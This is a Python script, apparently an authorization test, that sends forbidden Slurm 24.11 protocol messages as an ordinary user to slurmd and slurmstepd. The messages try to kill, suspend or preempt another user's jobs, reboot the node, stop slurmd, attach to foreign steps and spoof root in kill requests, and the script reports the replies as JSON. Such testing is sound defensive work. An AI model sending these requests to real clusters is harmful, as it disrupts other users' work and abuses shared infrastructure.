"""Send forbidden requests to a node's daemons in the daemons' protocol, as an ordinary user.

Slurm's commands first contact slurmctld, which refuses them. But an attacker can contact slurmd
through Slurm's library, and slurmstepd through its socket.

Inside the jail, `python3 daemons.py ADDRESS JOB UID WHERE` prints the answers as JSON. ADDRESS is
the node; JOB and UID are the other user's job and uid. WHERE is `beside` if that job is on this
node. Layouts and numbers are those of Slurm 24.11 (msg_type.h, slurm_protocol_defs.h, stepd_api.h).
"""

import ctypes
import json
import os
import signal
import socket
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

USER_ID_MISSING = "2010"
"""ESLURM_USER_ID_MISSING of slurm_errno.h: the sender may not make the request."""
NO_ANSWER = "no answer"
FORBIDDEN = "EACCES"
RUNS = "2"
"""State of a running step (stepd_api.h)."""
PING = 1008
"""REQUEST_PING, which any user may send."""
UNANSWERED = ("to stop slurmd", "to reconfigure slurmd", "to reboot the node")
"""Requests that slurmd never answers."""

_LIBRARY = "/usr/lib/x86_64-linux-gnu/slurm-wlm/libslurmfull.so"
_SLURMD_PORT = 6818
_RESPONSE_SLURM_RC = 8001
_NO_VAL, _NO_VAL64 = 0xFFFFFFFE, 0xFFFFFFFFFFFFFFFE
_BATCH, _EXTERN = 0xFFFFFFFB, 0xFFFFFFFC
_PROTOCOL = 42 << 8


class _StepId(ctypes.Structure):
    _fields_ = (
        ("sluid", ctypes.c_uint64),
        ("job_id", ctypes.c_uint32),
        ("het_component", ctypes.c_uint32),
        ("step_id", ctypes.c_uint32),
    )


class _SignalTasks(ctypes.Structure):
    _fields_ = (("flags", ctypes.c_uint16), ("signal", ctypes.c_uint16), ("step", _StepId))


class _KillJob(ctypes.Structure):
    _fields_ = (
        ("cred", ctypes.c_void_p),
        ("details", ctypes.c_char_p),
        ("derived_ec", ctypes.c_uint32),
        ("exit_code", ctypes.c_uint32),
        ("het_job_id", ctypes.c_uint32),
        ("gres", ctypes.c_void_p),
        ("state", ctypes.c_uint32),
        ("uid", ctypes.c_uint32),
        ("gid", ctypes.c_uint32),
        ("nodes", ctypes.c_char_p),
        ("spank_env", ctypes.c_void_p),
        ("spank_env_size", ctypes.c_uint32),
        ("start", ctypes.c_int64),
        ("step", _StepId),
        ("time", ctypes.c_int64),
        ("work_dir", ctypes.c_char_p),
    )


class _Suspend(ctypes.Structure):
    _fields_ = (("job_id", ctypes.c_uint32), ("operation", ctypes.c_uint16))


class _Shutdown(ctypes.Structure):
    _fields_ = (("options", ctypes.c_uint16),)


class _DebugLevel(ctypes.Structure):
    _fields_ = (("level", ctypes.c_uint32),)


class _Message(ctypes.Structure):
    """The first members of slurm_msg_t, up to message type and version."""

    _fields_ = (
        ("address", ctypes.c_uint64 * 16),
        ("auth_cred", ctypes.c_void_p),
        ("auth_index", ctypes.c_int),
        ("auth_uid", ctypes.c_uint32),
        ("auth_gid", ctypes.c_uint32),
        ("auth_ids_set", ctypes.c_bool),
        ("restrict_uid", ctypes.c_uint32),
        ("restrict_uid_set", ctypes.c_bool),
        ("body_offset", ctypes.c_uint32),
        ("buffer", ctypes.c_void_p),
        ("conn", ctypes.c_void_p),
        ("conn_fd", ctypes.c_int),
        ("conmgr_fd", ctypes.c_void_p),
        ("data", ctypes.c_void_p),
        ("flags", ctypes.c_uint16),
        ("hash_index", ctypes.c_uint8),
        ("type", ctypes.c_uint16),
        ("version", ctypes.c_uint16),
        ("rest", ctypes.c_uint64 * 128),
    )


def ask_slurmd(library: ctypes.CDLL, address: str, kind: int, body: ctypes.Structure | None) -> str:
    """Return slurmd's return code, or NO_ANSWER."""
    message, answer = _Message(), _Message()
    library.slurm_msg_t_init(ctypes.byref(message))
    library.slurm_msg_t_init(ctypes.byref(answer))
    library.slurm_set_addr(ctypes.byref(message), ctypes.c_uint16(_SLURMD_PORT), address.encode())
    # Allow slurmd's user to decode the credential.
    library.slurm_msg_set_r_uid(ctypes.byref(message), 0)
    message.type = kind
    message.data = ctypes.addressof(body) if body is not None else None
    if library.slurm_send_recv_node_msg(ctypes.byref(message), ctypes.byref(answer), 5000) < 0:
        return NO_ANSWER
    if answer.type != _RESPONSE_SLURM_RC:
        return f"message {answer.type}"
    return str(ctypes.cast(answer.data, ctypes.POINTER(ctypes.c_uint32)).contents.value)


def ask_by_any_credential(address: str, kind: int) -> str:
    """Send a message with a credential that was not made for it, and return slurmd's answer."""
    credential = subprocess.run(
        ["munge", "--no-input"], capture_output=True, check=True
    ).stdout.strip()
    # header_t, then number and text of auth_munge (slurm_protocol_pack.c, slurm_auth.c).
    header = struct.pack(">HHHIHHH", _PROTOCOL, 0, kind, 0, 0, 0, 0)
    text = credential + b"\0"
    message = header + struct.pack(">II", 101, len(text)) + text
    with socket.create_connection((address, _SLURMD_PORT), 10) as asked:
        asked.sendall(struct.pack(">I", len(message)) + message)
        asked.settimeout(10)
        try:
            answer = asked.recv(65536)
        except TimeoutError:
            return NO_ANSWER
    if len(answer) < 14:
        return NO_ANSWER
    # The return code is in the last 32 bits of the answer.
    (answered,), (code,) = struct.unpack(">H", answer[8:10]), struct.unpack(">I", answer[-4:])
    return f"message {answered}: {code}"


def slurmd(address: str, job: int) -> dict[str, str]:
    # Load the library with global symbols, because its plugins need these symbols.
    library = ctypes.CDLL(_LIBRARY, ctypes.RTLD_GLOBAL)
    library.slurm_init(None)

    def step(number: int) -> _StepId:
        return _StepId(_NO_VAL64, job, _NO_VAL, number)

    requests: dict[str, tuple[int, ctypes.Structure | None]] = {
        "to kill the other user's tasks": (6004, _SignalTasks(0, signal.SIGKILL, step(0))),
        "to kill the other user's script": (6004, _SignalTasks(0, signal.SIGKILL, step(_BATCH))),
        "to end the other user's step": (6006, _SignalTasks(0, signal.SIGKILL, step(0))),
        "to end the other user's job": (6011, _KillJob(step=step(_NO_VAL))),
        "to abort the other user's job": (6013, _KillJob(step=step(_NO_VAL))),
        "to time out the other user's job": (6009, _KillJob(step=step(_NO_VAL))),
        "to preempt the other user's job": (6016, _KillJob(step=step(_NO_VAL))),
        "to suspend the other user's job": (5031, _Suspend(job, 0)),
        "to change what slurmd logs": (1010, _DebugLevel(9)),
        "to stop slurmd": (1005, _Shutdown(0)),
        "to reconfigure slurmd": (1003, None),
        "to reboot the node": (1015, None),
    }
    return {
        name: ask_slurmd(library, address, kind, body) for name, (kind, body) in requests.items()
    }


# --- slurmstepd -----------------------------------------------------------------------------------


def ask_stepd(job: int, step: int, request: int, body: bytes, answer: str) -> tuple[int, ...]:
    """Return the answer from slurmstepd's socket; `answer` is its format for struct.unpack."""
    (path,) = Path("/var/spool/slurmd").glob(f"*_{job}.{step}")
    with socket.socket(socket.AF_UNIX) as stepd:
        stepd.settimeout(5)
        stepd.connect(str(path))
        stepd.send(struct.pack("i", _PROTOCOL))
        (version,) = struct.unpack("i", stepd.recv(4))
        assert version == _PROTOCOL, version
        stepd.send(struct.pack("i", request) + body)
        size = struct.calcsize(answer)
        received = b""
        while len(received) < size and (more := stepd.recv(size - len(received))):
            received += more
        return struct.unpack(answer, received) if len(received) == size else ()


def slurmstepd(job: int, user: int) -> dict[str, str]:
    """Return the answer to each request; FORBIDDEN if the user may not connect to the socket."""

    def kill(claimed: int) -> bytes:
        return struct.pack("iiiI", signal.SIGKILL, 0, 0, claimed)

    attach = (
        bytes(256) + struct.pack("I", 4) + b"key\0" + struct.pack("I", user)
        + struct.pack("H", _PROTOCOL)
    )  # fmt: skip
    own = int(os.environ["SLURM_JOB_ID"])
    requests: dict[str, Callable[[], object]] = {
        "to read one's own state": lambda: ask_stepd(own, 0, 5, b"", "i")[0],
        "to read the other step's state": lambda: ask_stepd(job, 0, 5, b"", "i")[0],
        "to kill the step's tasks": lambda: ask_stepd(job, 0, 4, kill(os.getuid()), "ii"),
        "to kill the tasks as their user": lambda: ask_stepd(job, 0, 4, kill(user), "ii"),
        "to kill the tasks as root": lambda: ask_stepd(job, 0, 4, kill(0), "ii"),
        "to kill the script": lambda: ask_stepd(job, _BATCH, 4, kill(user), "ii"),
        "to attach to the step as its user": lambda: ask_stepd(job, 0, 7, attach, "i"),
        "to suspend the step": lambda: ask_stepd(job, 0, 10, b"", "ii"),
        "to resume the step": lambda: ask_stepd(job, 0, 11, b"", "ii"),
        "to terminate the step": lambda: ask_stepd(job, 0, 12, b"", "ii"),
        "to reconfigure slurmstepd": lambda: ask_stepd(job, 0, 16, struct.pack("i", 0), "ii"),
        "to add a process of one's own to the job": lambda: ask_stepd(
            job, _EXTERN, 22, struct.pack("i", os.getpid()), "i"
        ),
        "to get the job's namespaces": lambda: ask_stepd(job, _EXTERN, 26, b"", "i"),
    }
    return {name: _outcome(ask) for name, ask in requests.items()}


def _outcome(ask: Callable[[], object]) -> str:
    try:
        return str(ask())
    except PermissionError:
        return FORBIDDEN


if __name__ == "__main__":
    address, job, user, where = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    print(
        json.dumps(
            {
                "slurmd": slurmd(address, job),
                "any credential": {
                    "to ping slurmd": ask_by_any_credential(address, PING),
                },
                "slurmstepd": slurmstepd(job, user) if where == "beside" else {},
            }
        )
    )
